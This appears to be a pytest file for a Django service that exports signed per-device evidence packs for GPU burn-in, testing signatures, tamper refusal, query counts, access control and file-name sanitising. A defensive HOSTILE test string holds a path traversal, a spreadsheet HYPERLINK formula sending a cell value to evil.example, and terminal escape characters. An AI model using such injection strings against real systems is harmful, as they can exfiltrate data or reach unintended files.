"""The evidence pack (`GET /api/v1/devices/{id}/evidence-pack/`, `fleet evidence-pack export|verify`):
what its manifest says, that it verifies with the project's command and with an independent
verifier, that one changed byte in any file is refused, that building it costs a constant number
of queries, who may fetch it, and that hostile text from machines under test stays JSON."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import zipfile
from datetime import timedelta
from io import StringIO
from uuid import UUID

import pytest
import rfc8785
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from django.contrib.auth.models import Group
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from fleet.access.roles import VIEWER, roles_sync
from fleet.burnin.evidence.pack import evidence_pack_build
from fleet.burnin.models import FingerprintSnapshot, RemedyStep
from fleet.inventory.models import Device
from fleet.lifecycle.models import DeviceStateChange, Repair
from fleet_rules import fingerprint
from fleet_rules.evidence_pack import pack_file_name
from tests.burnin.certs import evaluate_now, sweep
from tests.payloads import inventory
from tests.schema_validation import ValidatingAPIClient

RC = "gpu.h200.8x"
BW_RULE = {"metric": "busbw", "statistic": "min", "comparator": "gte", "threshold": 431}
DIAG_RULE = {"metric": "diag_failed_tests", "comparator": "eq", "threshold": 0}
HOSTILE = '../../etc/passwd =HYPERLINK("http://evil.example/?x="&A1,"click") \x1b[31mred\x07\x08\r\n\t\u202e'


def bad_diag(n: int) -> dict:
    return {"diag_failed_tests": {"value": n, "unit": "tests"}}


def slow_bus(value: float) -> dict:
    return {"busbw": {"value": value, "unit": "GB/s", "statistics": {"min": value - 10, "mean": value}}}


def independent_verify(pack: bytes, keys: dict) -> bool:
    """Shares no code with the service: zipfile, json, hashlib, rfc8785 and cryptography only."""
    try:
        with zipfile.ZipFile(io.BytesIO(pack)) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
        manifest = json.loads(files.pop("manifest.json"))
        signature = json.loads(files.pop("manifest.sig"))
        key = next(k for k in keys["keys"] if k["key_id"] == signature["key_id"])
        Ed25519PublicKey.from_public_bytes(base64.b64decode(key["public_key"])).verify(
            base64.b64decode(signature["signature"]), rfc8785.dumps(manifest)
        )
        listed = {entry["path"]: entry["sha256"] for entry in manifest["files"]}
        return set(listed) == set(files) and all(hashlib.sha256(files[p]).hexdigest() == h for p, h in listed.items())
    except (InvalidSignature, ValueError, KeyError, StopIteration, zipfile.BadZipFile):
        return False


def verify_command(*args: str) -> tuple[int, str]:
    out = StringIO()
    try:
        call_command("evidence-pack", "verify", *args, stdout=out)
    except SystemExit as exc:
        return int(exc.code or 0), out.getvalue()
    return 0, out.getvalue()


def members(pack: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(pack)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.fixture
def viewer(user_factory):
    roles_sync()
    user = user_factory("viewer")
    user.groups.add(Group.objects.get(name=VIEWER))
    client = ValidatingAPIClient(enforce_csrf_checks=True)
    client.force_login(user)
    return client


@pytest.fixture
def failed(fleet):
    """A device that failed its diagnostics twice (then passed nothing) and whose rack failed its
    collective once: two failing targets, three executions, a state history and a repair."""
    site = fleet.site("lon-1")
    satellite = fleet.satellite(site, "sat-a")
    rack = fleet.topology(satellite, "rack", "rack-a01")
    policy = fleet.policy(RC)
    diag = fleet.requirement(policy, "gpu-diag", thresholds=[DIAG_RULE])
    nccl = fleet.requirement(policy, "rack-nccl", scope="multi_node", test="nccl-all-reduce", thresholds=[BW_RULE])
    device = fleet.device(satellite, RC, hostname="a01-n04", topologies=[rack])
    fleet.device(satellite, RC, hostname="a01-n05", topologies=[rack])
    evaluate_now(fleet.execution(diag, device=device, metrics=bad_diag(2)))
    evaluate_now(fleet.execution(diag, device=device, metrics=bad_diag(3)))
    evaluate_now(fleet.execution(nccl, topology=rack, metrics=slow_bus(400.0)))
    sweep(satellite)
    now = timezone.now()
    DeviceStateChange.objects.create(
        device=device,
        from_state="staged",
        to_state="burn_in",
        at=now - timedelta(hours=2),
        actor="system",
        cause="operator",
    )
    DeviceStateChange.objects.create(
        device=device,
        from_state="burn_in",
        to_state="needs_repair",
        at=now - timedelta(hours=1),
        actor="system",
        cause="failed_too_often",
        reason="gpu-diag failed 3 times",
        refs={"requirement": "gpu-diag"},
    )
    Repair.objects.create(
        device=device,
        summary="GPU 3 swapped",
        parts=[{"kind": "gpu", "slot": "3", "removed_serial": "G-OLD", "installed_serial": "G-NEW"}],
        actor="user:operator",
        created_at=now - timedelta(minutes=30),
    )
    return site, satellite, device, rack, diag, nccl


def test_the_pack_verifies_with_the_command_and_independently_and_says_what_failed(failed, viewer, tmp_path):
    site, _, device, rack, diag, nccl = failed
    response = viewer.get(f"/api/v1/devices/{device.id}/evidence-pack/", HTTP_ACCEPT="application/zip")
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == f'attachment; filename="a01-n04-{device.serial}.evidence.zip"'
    pack = response.content
    keys = viewer.get("/api/v1/certificates/keys/").json()
    (tmp_path / "keys.json").write_text(json.dumps(keys))
    (tmp_path / "pack.zip").write_bytes(pack)

    assert independent_verify(pack, keys)
    status, out = verify_command(str(tmp_path / "pack.zip"), "--keys", str(tmp_path / "keys.json"))
    assert (status, "OK: signature valid") == (0, out.split(": ", 1)[1][: len("OK: signature valid")]), out
    assert verify_command(str(tmp_path / "pack.zip"))[0] == 0  # the database's keys

    files = members(pack)
    manifest = json.loads(files["manifest.json"])
    assert files["manifest.json"] == rfc8785.dumps(manifest)
    assert manifest["format"] == "fleet-burnin/evidence-pack/v1"
    assert manifest["device"] == {
        "id": str(device.id),
        "hostname": "a01-n04",
        "serial": device.serial,
        "resource_class": RC,
        "site": {"id": str(site.id), "slug": "lon-1"},
        "state": "burn_in",
        "enrolled_at": manifest["device"]["enrolled_at"],
    }
    assert manifest["device"]["enrolled_at"].endswith("Z")
    history = manifest["state_history"]
    assert history["count"] == 2
    assert [(c["to_state"], c["cause"]) for c in history["changes"]] == [
        ("needs_repair", "failed_too_often"),
        ("burn_in", "operator"),
    ]
    assert manifest["repairs"]["records"][0]["parts"][0]["installed_serial"] == "G-NEW"

    targets = {t["requirement"]["name"]: t for t in manifest["targets"]}
    assert set(targets) == {"gpu-diag", "rack-nccl"}
    node, collective = targets["gpu-diag"], targets["rack-nccl"]
    assert node["target"] == {"kind": "device", "id": str(device.id), "label": "a01-n04"}
    assert collective["target"] == {"kind": "topology", "id": str(rack.id), "label": "rack-a01"}
    assert node["verdict"] == collective["verdict"] == "failed"
    assert collective["thresholds"] == [
        {"metric": "busbw", "statistic": "min", "comparator": "gte", "threshold": 431, "unit": "GB/s"}
    ]
    assert collective["measured"] == [
        {"metric": "busbw", "statistic": "min", "value": 390, "unit": "GB/s", "passed": False}
    ]
    assert node["attempts"]["count"] == node["attempts"]["included"] == 2
    newest, older = node["attempts"]["executions"]
    assert newest["id"] == node["deciding_execution_id"]
    assert [newest["measured"][0]["value"], older["measured"][0]["value"]] == [3, 2]
    assert newest["verdict"] == "failed" and newest["started_at"].endswith("Z") and newest["parameters"] == {}

    # Every execution file is listed with its hash, and is what the execution endpoint answers.
    listed = {entry["path"]: entry for entry in manifest["files"]}
    assert set(listed) == set(files) - {"manifest.json", "manifest.sig"}
    assert len(listed) == 3
    for path, entry in listed.items():
        assert entry["sha256"] == hashlib.sha256(files[path]).hexdigest()
        execution_id = UUID(path.removeprefix("executions/").removesuffix(".json"))
        served = viewer.get(f"/api/v1/burn-in/executions/{execution_id}/").json()
        assert json.loads(files[path]) == served
    signature = json.loads(files["manifest.sig"])
    assert signature["algorithm"] == "Ed25519" and signature["key_id"] in {k["key_id"] for k in keys["keys"]}


PACK_FILES = ["manifest.json", "manifest.sig", "executions#0", "executions#1", "executions#2"]


@pytest.mark.parametrize("which", PACK_FILES)
def test_one_changed_byte_in_any_file_is_refused_naming_why(failed, viewer, tmp_path, which):
    _, _, device, *_ = failed
    pack = viewer.get(f"/api/v1/devices/{device.id}/evidence-pack/").content
    keys = viewer.get("/api/v1/certificates/keys/").json()
    (tmp_path / "keys.json").write_text(json.dumps(keys))
    files = members(pack)
    executions = sorted(name for name in files if name.startswith("executions/"))
    name = executions[int(which.split("#")[1])] if "#" in which else which
    data = bytearray(files[name])
    # One byte of a value (a hostname, an id, the signature): the file stays JSON, its keys in order.
    marker = {"manifest.json": b'"hostname":"a01-n0', "manifest.sig": b'"signature":"'}.get(name, b'"id": "')
    at = data.index(marker) + len(marker)
    data[at] = ord("J") if data[at] != ord("J") else ord("K")
    files[name] = bytes(data)
    edited = rezip(files)
    (tmp_path / "edited.zip").write_bytes(edited)

    assert not independent_verify(edited, keys)
    status, out = verify_command(str(tmp_path / "edited.zip"), "--keys", str(tmp_path / "keys.json"))
    assert status == 1, out
    reason = {
        "manifest.json": "bad signature",
        "manifest.sig": "bad signature",
    }.get(name, f"{name}: SHA-256 differs from the manifest")
    assert reason in out, out


def test_a_damaged_archive_an_unlisted_file_and_an_unknown_key_are_refused(failed, viewer, tmp_path):
    _, _, device, *_ = failed
    pack = viewer.get(f"/api/v1/devices/{device.id}/evidence-pack/").content
    keys_file = tmp_path / "keys.json"
    keys_file.write_text(json.dumps(viewer.get("/api/v1/certificates/keys/").json()))

    def refused(data: bytes, keys: str = str(keys_file)) -> str:
        (tmp_path / "p.zip").write_bytes(data)
        status, out = verify_command(str(tmp_path / "p.zip"), "--keys", keys)
        assert status == 1, out
        return out

    damaged = bytearray(pack)
    damaged[len(pack) // 3] ^= 0xFF  # inside a compressed member: its CRC-32 no longer holds
    assert "REFUSED" in refused(bytes(damaged))
    extra = members(pack) | {"executions/../../evil.json": b"{}"}
    assert "not listed in the manifest" in refused(rezip(extra))
    missing = {k: v for k, v in members(pack).items() if not k.startswith("executions/")}
    assert "missing from the pack" in refused(rezip(missing))
    (tmp_path / "other.json").write_text(json.dumps({"keys": []}))
    assert "unknown key" in refused(pack, str(tmp_path / "other.json"))


def _executions(fleet, requirement, count: int, **target) -> None:
    evaluate_now(*(fleet.execution(requirement, metrics=bad_diag(1 + i % 3), **target) for i in range(count)))


def window(*codes: int, message: str = "NVRM: Xid (PCI:0000:3b:00): 79, GPU has fallen off the bus.") -> dict:
    """Health evidence as the API stores it."""
    return {
        "window": {"since": "2026-11-30T10:00:00Z", "until": "2026-11-30T10:30:00Z"},
        "source": "journalctl",
        "xid_events": [
            {"kind": "xid", "code": c, "pci_bus_id": "0000:3b:00", "message": message, "at": "2026-11-30T10:12:00Z"}
            for c in codes
        ],
        "ecc": {"before": {"ecc_uncorrected_aggregate": 1}, "after": {"ecc_uncorrected_aggregate": 3}},
        "throttle_reasons_seen": ["hw_slowdown"],
    }


@pytest.fixture
def health_requirement(failed, fleet):
    policy = failed[4].policy
    return fleet.requirement(
        policy,
        "gpu-health-window",
        test="health-window",
        thresholds=[{"metric": "xid_fatal_count", "comparator": "eq", "threshold": 0}],
    )


def test_a_fatal_xid_is_in_the_pack_and_the_pack_still_verifies(failed, fleet, health_requirement, viewer, tmp_path):
    site, satellite, device, *_ = failed
    quiet = fleet.execution(
        health_requirement, device=device, health=window(13), metrics={"xid_fatal_count": {"value": 0}}
    )
    fatal = fleet.execution(
        health_requirement,
        device=device,
        health=window(13, 79, message=HOSTILE),
        metrics={"xid_fatal_count": {"value": 1}},
    )
    # an Xid 79 asks for a reboot (docs/remediation.md): the ladder's step, not a move to repair
    assert Device.objects.get(id=device.id).state != "needs_repair"
    pack = viewer.get(f"/api/v1/devices/{device.id}/evidence-pack/").content
    assert independent_verify(pack, viewer.get("/api/v1/certificates/keys/").json())
    (tmp_path / "pack.zip").write_bytes(pack)
    assert verify_command(str(tmp_path / "pack.zip"))[0] == 0

    files = members(pack)
    manifest = json.loads(files["manifest.json"])
    assert manifest["health"]["count"] == 2 and manifest["limits"]["health_reports"] == 20
    newest, older = manifest["health"]["reports"]
    assert (newest["execution_id"], older["execution_id"]) == (str(fatal.id), str(quiet.id))
    assert newest["requirement"] == "gpu-health-window" and newest["xid_events"] == 2
    assert newest["fatal_events"] == [
        {
            "kind": "xid",
            "code": 79,
            "meaning": "GPU has fallen off the bus",
            "pci_bus_id": "0000:3b:00",
            "at": "2026-11-30T10:12:00.000000Z",
            "message": HOSTILE,
        }
    ]
    assert older["fatal_events"] == []
    assert newest["window"] == {"since": "2026-11-30T10:00:00.000000Z", "until": "2026-11-30T10:30:00.000000Z"}
    assert newest["ecc"] == [{"counter": "ecc_uncorrected_aggregate", "before": 1, "after": 3, "delta": 2}]
    assert newest["throttle_reasons_seen"] == ["hw_slowdown"]
    # the execution's whole health object travels in its file, listed and hashed like every other
    execution_file = json.loads(files[newest["file"]])
    assert execution_file["health"]["xid_events"][1]["message"] == HOSTILE
    assert newest["file"] in {f["path"] for f in manifest["files"]}
    # the remediation ladder says what the Xid asked for, when, and how it stands
    (step,) = manifest["remediation"]["steps"]
    assert (step["step"], step["outcome"]) == ("reboot", "under_way") and step["job_id"]
    assert step["reason"].startswith("Xid 79 (GPU has fallen off the bus) on GPU 0000:3b:00: reboot asked; Xid 13")
    assert HOSTILE not in step["reason"]
    # hostile text only inside JSON strings: never a file name
    assert all(name == "manifest.json" or name == "manifest.sig" or name.startswith("executions/") for name in files)


@pytest.mark.parametrize("extra", [0, 28])
def test_building_a_pack_costs_the_same_queries_whatever_the_number_of_executions(
    failed, fleet, health_requirement, extra, request
):
    site, satellite, device, rack, diag, nccl = failed
    _executions(fleet, diag, extra, device=device)
    for _ in range(1 + extra):
        fleet.execution(health_requirement, device=device, health=window(13), metrics={"xid_fatal_count": {"value": 0}})
    for _ in range(extra):
        DeviceStateChange.objects.create(
            device=device, from_state="burn_in", to_state="maintenance", at=timezone.now(), actor="x", cause="operator"
        )
    _fingerprints(device, 1 + extra)
    for _ in range(1 + extra):
        RemedyStep.objects.create(
            device=device, step="reset_gpu", outcome="persisted", reason="Xid 95", created_at=timezone.now()
        )
    sweep(satellite)
    with CaptureQueriesContext(connection) as queries:
        pack = evidence_pack_build(device_id=device.id, generated_by="test")
    manifest = json.loads(members(pack.content)["manifest.json"])
    node = next(t for t in manifest["targets"] if t["requirement"]["name"] == "gpu-diag")
    assert node["attempts"]["count"] == 2 + extra
    assert node["attempts"]["included"] == min(2 + extra, 20)  # the newest 20 a target, documented
    assert manifest["health"]["count"] == 1 + extra and len(manifest["health"]["reports"]) == min(1 + extra, 20)
    assert len(manifest["files"]) == min(2 + extra, 20) + 1 + min(1 + extra, 20)
    assert manifest["fingerprints"]["count"] == 1 + extra
    assert len(manifest["fingerprints"]["snapshots"]) == min(1 + extra, 20)
    assert len(manifest["remediation"]["steps"]) == min(1 + extra, 20)
    # Held equal at both sizes (12: device, topologies, policy, rows, thresholds, executions,
    # history, repairs, fingerprints, health reports, remediation steps, the signing key's publication).
    assert len(queries) == 12, [q["sql"][:120] for q in queries.captured_queries]


def _fingerprints(device, count: int) -> None:
    """`count` fingerprints of the device, GPU 3 swapped each time, the last one current."""
    now = timezone.now()
    for n in range(count):
        value = inventory()
        value["gpus"][3]["serial"] = f"SWAP-{n}"
        FingerprintSnapshot.objects.create(
            device=device,
            sha256=fingerprint.sha256(value),
            canonical=fingerprint.canonical(value).decode(),
            inventory=fingerprint.normalised(value),
            first_seen_at=now - timedelta(minutes=count - n),
            last_seen_at=now - timedelta(minutes=count - n),
            replaced_at=None if n == count - 1 else now - timedelta(minutes=count - n - 1),
        )


def test_the_pack_holds_the_fingerprints_and_still_verifies(failed, viewer):
    site, _, device, *_ = failed
    _fingerprints(device, 3)
    response = viewer.get(f"/api/v1/devices/{device.id}/evidence-pack/", HTTP_ACCEPT="application/zip")
    keys = viewer.get("/api/v1/certificates/keys/").json()
    assert independent_verify(response.content, keys)
    manifest = json.loads(members(response.content)["manifest.json"])
    snapshots = manifest["fingerprints"]["snapshots"]
    assert [s["current"] for s in snapshots] == [True, False, False]
    assert snapshots[0]["inventory"]["gpus"][3]["serial"] == "SWAP-2"
    assert snapshots[0]["sha256"] == rfc8785_sha256(snapshots[0]["inventory"])
    assert snapshots[0]["changes"] == [
        {"part": "gpu", "text": "GPU 3 (00000000:48:00.0) serial SWAP-1 → SWAP-2", "supersedes": True}
    ]
    assert snapshots[-1]["changes"] == []


def rfc8785_sha256(value) -> str:
    """The fingerprint's hash recomputed without the service's code."""
    return hashlib.sha256(rfc8785.dumps(value)).hexdigest()


def test_who_may_fetch_a_pack(failed, viewer, api, bearer, session_client, fleet):
    site, satellite, device, *_ = failed
    path = f"/api/v1/devices/{device.id}/evidence-pack/"
    assert viewer.get(path).status_code == 200  # a viewer reads evidence
    operator_client = bearer(["fleet:read"], name="ops-automation")
    assert operator_client.get(path).status_code == 200
    own_satellite = bearer(["fleet:read"], satellite=satellite, name="sat-a-client")
    refused = own_satellite.get(path)
    assert refused.status_code == 403 and refused.json()["code"] == "permission_denied"
    other = fleet.satellite(fleet.site("ams-1"), "sat-b")
    assert bearer(["fleet:read"], satellite=other, name="sat-b-client").get(path).status_code == 403
    only_devices = session_client(perms=["inventory.view_device"], username="devices-only")
    assert only_devices.get(path).status_code == 403
    assert bearer(["job:run"], name="narrow").get(path).status_code == 403
    assert api.get(path).status_code == 401
    missing = viewer.get("/api/v1/devices/00000000-0000-0000-0000-000000000000/evidence-pack/")
    assert missing.status_code == 404 and missing.json()["code"] == "not_found"
    # A caller that accepts only zips is refused in JSON too (not a 406, not an error "zip").
    refused = api.get(path, HTTP_ACCEPT="application/zip")
    assert (refused.status_code, refused["Content-Type"]) == (401, "application/json")


def test_hostile_execution_output_stays_inside_json(fleet, viewer, tmp_path, monkeypatch):
    site = fleet.site("lon-9")
    satellite = fleet.satellite(site, "sat-a")
    diag = fleet.requirement(fleet.policy(RC), "gpu-diag", thresholds=[DIAG_RULE])
    device = fleet.device(satellite, RC, hostname="b01-n01")  # hostnames are DNS-style (a database check)
    Device.objects.filter(id=device.id).update(serial="../../etc/passwd\x1b")  # serials are free text
    device.refresh_from_db()
    evaluate_now(fleet.execution(diag, device=device, status="errored", error=HOSTILE, metrics={}))
    evaluate_now(fleet.execution(diag, device=device, metrics={HOSTILE: {"value": 1}, **bad_diag(1)}))
    sweep(satellite)

    response = viewer.get(f"/api/v1/devices/{device.id}/evidence-pack/")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="b01-n01-.._.._etc_passwd.evidence.zip"'
    files = members(response.content)
    names = sorted(set(files) - {"manifest.json", "manifest.sig"})
    assert len(names) == len(files) - 2 == 2
    assert all(len(n) == len("executions/") + 36 + len(".json") and UUID(n[11:47]) for n in names)
    manifest = json.loads(files["manifest.json"])
    assert manifest["device"]["serial"] == "../../etc/passwd\x1b"
    errored = [e for t in manifest["targets"] for e in t["attempts"]["executions"] if e["status"] == "errored"]
    assert errored and errored[0]["error"] == HOSTILE  # the text itself, as a JSON string value
    assert b"\x1b" not in files["manifest.json"] and b"\\u001b" in files["manifest.json"]
    assert any(json.loads(files[n]).get("error") == HOSTILE for n in names)
    assert any(HOSTILE in json.loads(files[n])["metrics"] for n in names)

    # The command writes the pack under a sanitised name, inside the current directory only.
    monkeypatch.chdir(tmp_path)
    call_command("evidence-pack", "export", "--site", "lon-9", "--hostname", device.hostname, stdout=StringIO())
    assert [p.name for p in tmp_path.iterdir()] == [pack_file_name(device.hostname, device.serial)]
    assert verify_command(str(tmp_path / pack_file_name(device.hostname, device.serial)))[0] == 0


def test_export_writes_where_asked_and_refuses_an_unknown_device(failed, tmp_path):
    out = StringIO()
    call_command(
        "evidence-pack", "export", "--site", "lon-1", "--hostname", "a01-n04", "-o", str(tmp_path / "v.zip"), stdout=out
    )
    assert "wrote" in out.getvalue()
    assert verify_command(str(tmp_path / "v.zip"))[0] == 0
    with pytest.raises(CommandError, match="No device 'nope'"):
        call_command("evidence-pack", "export", "--site", "lon-1", "--hostname", "nope")
    with pytest.raises(CommandError, match="not a directory"):
        call_command(
            "evidence-pack", "export", "--site", "lon-1", "--hostname", "a01-n04", "-o", str(tmp_path / "no" / "v.zip")
        )


def test_the_device_page_links_the_pack(failed, viewer):
    site, _, device, *_ = failed
    page = viewer.get(f"/sites/lon-1/devices/{device.hostname}/").content.decode()
    link = f'href="/api/v1/devices/{device.id}/evidence-pack/" id="evidence-pack"'
    assert link in page
    assert viewer.get(f"/api/v1/devices/{device.id}/evidence-pack/")["Content-Type"] == "application/zip"


def test_default_file_names_are_sanitised():
    assert pack_file_name("a01-n04", "SN1") == "a01-n04-SN1.evidence.zip"
    assert pack_file_name("../../etc/passwd", "x") == "etc_passwd-x.evidence.zip"
    assert pack_file_name("..", "") == "device.evidence.zip"
    assert "/" not in pack_file_name("a/b\x00c", "=HYPERLINK()")
